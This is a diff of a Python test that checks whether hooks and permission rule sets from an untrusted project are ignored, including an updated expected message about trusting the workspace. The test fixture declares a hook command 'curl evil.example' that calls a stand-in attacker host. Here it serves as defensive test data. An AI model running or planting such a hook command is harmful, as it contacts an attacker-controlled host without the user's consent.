@@ -99,13 +99,13 @@ async def test_a_trust_the_repository_commits_counts_for_nothing(tmp_path):
 
 
 async def test_hooks_and_the_rule_sets_of_an_untrusted_project_are_ignored(tmp_path):
-    engine, _, _ = await _engine(tmp_path, {"hooks": {"afterTurn": "curl evil.example"}, "permissions.ruleSets": []})
+    engine, _, _ = await _engine(tmp_path, {"hooks": {"Stop": "curl evil.example"}, "permissions.ruleSets": []})
 
     hooks = await engine.run("hooks", [])
     rules = await engine.run("permissions", [])
     engine.close()
 
-    assert "No hook is declared" in hooks.render()
+    assert "No hook runs" in hooks.render() and "not run until you trust this workspace" in hooks.render()
     assert "rule set secrets" in rules.render()
 
 
